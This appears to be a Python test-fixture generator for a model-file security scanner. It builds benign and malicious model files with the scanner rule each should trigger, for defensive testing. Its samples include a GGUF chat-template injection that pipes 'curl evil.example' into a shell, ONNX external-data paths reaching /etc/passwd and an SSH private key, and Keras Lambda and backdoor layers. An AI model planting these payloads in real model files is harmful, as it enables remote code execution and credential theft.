"""Fixtures of the non-pickle formats (safetensors, GGUF, ONNX, SavedModel, Keras, HDF5) for the
Lantern model scanner, standard library only. Called by gen_fixtures.py with its `emit`."""

import io
import json
import struct
import zipfile


# ---- protobuf wire encoding (enough for hand-built ONNX / SavedModel messages) ----------------

def varint(n):
    out = bytearray()
    while True:
        b = n & 0x7F
        n >>= 7
        if n:
            out.append(b | 0x80)
        else:
            out.append(b)
            return bytes(out)


def f_varint(field, n):
    return varint(field << 3) + varint(n)


def f_bytes(field, data):
    if isinstance(data, str):
        data = data.encode()
    return varint((field << 3) | 2) + varint(len(data)) + data


def onnx_model(nodes, initializers=(), opsets=(("", 17),)):
    graph = b"".join(f_bytes(1, n) for n in nodes) + f_bytes(2, "g")
    graph += b"".join(f_bytes(5, t) for t in initializers)
    m = f_varint(1, 8) + f_bytes(2, "pytorch") + f_bytes(3, "2.1") + f_bytes(7, graph)
    m += b"".join(f_bytes(8, f_bytes(1, d) + f_varint(2, v)) for d, v in opsets)
    return m


def onnx_node(name, op, domain="", inputs=("x",), outputs=("y",)):
    n = b"".join(f_bytes(1, i) for i in inputs) + b"".join(f_bytes(2, o) for o in outputs)
    n += f_bytes(3, name) + f_bytes(4, op)
    if domain:
        n += f_bytes(7, domain)
    return n


def onnx_tensor(name, location=None, raw=b""):
    t = f_varint(1, 4) + f_varint(2, 1) + f_bytes(8, name)
    if raw:
        t += f_bytes(9, raw)
    if location is not None:
        t += f_bytes(13, f_bytes(1, "location") + f_bytes(2, location))
        t += f_bytes(13, f_bytes(1, "offset") + f_bytes(2, "0"))
        t += f_varint(14, 1)
    return t


def saved_model(ops):
    nodes = b"".join(f_bytes(1, f_bytes(1, "n%d" % i) + f_bytes(2, op)) for i, op in enumerate(ops))
    graph_def = nodes
    meta = f_bytes(2, graph_def)
    return f_varint(1, 1) + f_bytes(2, meta)


# ---- safetensors / gguf ---------------------------------------------------------------------

def safetensors(header, data_len):
    h = json.dumps(header).encode()
    h += b" " * (-len(h) % 8)
    return struct.pack("<Q", len(h)) + h + b"\x00" * data_len


def gstr(s):
    b = s.encode()
    return struct.pack("<Q", len(b)) + b


def gguf(template, tensors=(("w", 0),), data=64):
    kv = [
        (gstr("general.architecture") + struct.pack("<I", 8) + gstr("llama")),
        (gstr("general.alignment") + struct.pack("<I", 4) + struct.pack("<I", 32)),
        (gstr("tokenizer.ggml.tokens") + struct.pack("<I", 9) + struct.pack("<I", 8)
         + struct.pack("<Q", 3) + gstr("<s>") + gstr("</s>") + gstr("hi")),
        (gstr("tokenizer.ggml.scores") + struct.pack("<I", 9) + struct.pack("<I", 6)
         + struct.pack("<Q", 3) + struct.pack("<fff", 0.0, 0.0, -1.0)),
        (gstr("tokenizer.chat_template") + struct.pack("<I", 8) + gstr(template)),
    ]
    out = b"GGUF" + struct.pack("<I", 3) + struct.pack("<Q", len(tensors)) + struct.pack("<Q", len(kv))
    out += b"".join(kv)
    for name, off in tensors:
        out += gstr(name) + struct.pack("<I", 2) + struct.pack("<QQ", 4, 4) + struct.pack("<I", 0)
        out += struct.pack("<Q", off)
    out += b"\x00" * (-len(out) % 32)
    return out + b"\x00" * data


BENIGN_TEMPLATE = ("{% for message in messages %}{% if message['role'] == 'user' %}"
                   "<|user|>\n{{ message['content'] }}</s>\n{% elif message['role'] == 'assistant' %}"
                   "<|assistant|>\n{{ message['content'] }}</s>\n{% endif %}{% endfor %}"
                   "{% if add_generation_prompt %}<|assistant|>\n{% endif %}")


# ---- keras / hdf5 -----------------------------------------------------------------------------

def keras_config(extra_layers=()):
    layers = [{"module": "keras.layers", "class_name": "InputLayer",
               "config": {"batch_shape": [None, 4], "name": "input"}},
              {"module": "keras.layers", "class_name": "Dense",
               "config": {"name": "dense", "units": 2, "activation": "relu"},
               "registered_name": None}]
    layers += list(extra_layers)
    return {"module": "keras", "class_name": "Sequential",
            "config": {"name": "sequential", "layers": layers}, "registered_name": None}


LAMBDA = {"module": "keras.layers", "class_name": "Lambda",
          "config": {"name": "lambda", "function": {"class_name": "__lambda__",
                                                    "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMOAAAAZAFkAGwAfQF0AKAB",
                                                               "defaults": None, "closure": None}}}}
CUSTOM = {"module": "evilpkg.layers", "class_name": "Backdoor", "config": {"name": "backdoor"},
          "registered_name": "evilpkg>Backdoor"}


def keras_zip(cfg):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.3.3", "date_saved": "2024-05-01"}))
        z.writestr("config.json", json.dumps(cfg))
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + b"\x00" * 256)
    return buf.getvalue()


def h5_like(cfg):
    """HDF5 signature + superblock padding + the model_config attribute bytes as h5py stores a
    fixed-length string (contiguous UTF-8). Not a complete HDF5 file: h5py is not available to
    the stdlib generator; the scanner reads the attribute bytes the same way in both cases."""
    legacy = {"class_name": cfg["class_name"], "config": cfg["config"]}
    return (b"\x89HDF\r\n\x1a\n\x00\x00\x00\x00\x00\x08\x08\x00" + b"\x00" * 80 + b"model_config\x00"
            + json.dumps(legacy).encode() + b"\x00" * 64)


def generate(emit):
    # safetensors
    ok = {"__metadata__": {"format": "pt"},
          "w": {"dtype": "F32", "shape": [4, 4], "data_offsets": [0, 64]},
          "b": {"dtype": "BF16", "shape": [4], "data_offsets": [64, 72]}}
    emit("benign/model.safetensors", safetensors(ok, 72), "clean")
    bad = dict(ok)
    bad["b"] = {"dtype": "BF16", "shape": [4], "data_offsets": [60, 68]}
    emit("malicious/overlap.safetensors", safetensors(bad, 72), "medium", rule="safetensors.inconsistent")
    emit("malicious/short.safetensors", safetensors(ok, 40), "medium", rule="safetensors.inconsistent")
    emit("malicious/huge_header.safetensors", struct.pack("<Q", 1 << 39) + b'{"a":1}', "medium",
         rule="safetensors.malformed")
    # GGUF
    emit("benign/model.gguf", gguf(BENIGN_TEMPLATE), "clean")
    emit("malicious/ssti.gguf",
         gguf("{{ cycler.__init__.__globals__.os.popen('curl evil.example | sh').read() }}" + BENIGN_TEMPLATE),
         "critical", rule="gguf.template-injection", detail="__globals__")
    emit("malicious/truncated.gguf", gguf(BENIGN_TEMPLATE)[:150], "low", rule="gguf.malformed")
    # ONNX
    emit("benign/model.onnx", onnx_model([onnx_node("mm", "MatMul"), onnx_node("r", "Relu")],
                                         [onnx_tensor("w", raw=b"\x00" * 64),
                                          onnx_tensor("w2", location="weights/w2.bin")]), "clean")
    emit("malicious/custom_op.onnx", onnx_model([onnx_node("evil", "RunShell", domain="com.evil.ops")],
                                                opsets=(("", 17), ("com.evil.ops", 1))),
         "medium", rule="onnx.custom-op")
    emit("malicious/external_escape.onnx",
         onnx_model([onnx_node("mm", "MatMul")], [onnx_tensor("w", location="../../../../etc/passwd")]),
         "high", rule="onnx.external-data-escape", detail="../../../../etc/passwd")
    emit("malicious/renamed_onnx.bin",
         onnx_model([onnx_node("mm", "MatMul")], [onnx_tensor("w", location="/home/user/.ssh/id_rsa")]),
         "high", rule="onnx.external-data-escape", note="ONNX found by content, not extension")
    # TensorFlow SavedModel
    emit("benign/saved/saved_model.pb", saved_model(["Placeholder", "MatMul", "RestoreV2", "SaveV2"]), "clean")
    emit("malicious/pyfunc/saved_model.pb", saved_model(["Placeholder", "PyFunc"]), "critical",
         rule="tf.py-func")
    emit("malicious/readfile/saved_model.pb", saved_model(["Const", "ReadFile", "WriteFile"]), "high",
         rule="tf.file-op")
    # Keras
    emit("benign/model.keras", keras_zip(keras_config()), "clean")
    emit("malicious/lambda.keras", keras_zip(keras_config([LAMBDA])), "critical", rule="keras.lambda-layer")
    emit("malicious/custom.keras", keras_zip(keras_config([CUSTOM])), "medium", rule="keras.custom-object",
         detail="evilpkg.layers.Backdoor")
    emit("benign/model.h5", h5_like(keras_config()), "clean")
    emit("malicious/lambda.h5", h5_like(keras_config([LAMBDA])), "critical", rule="keras.lambda-layer")
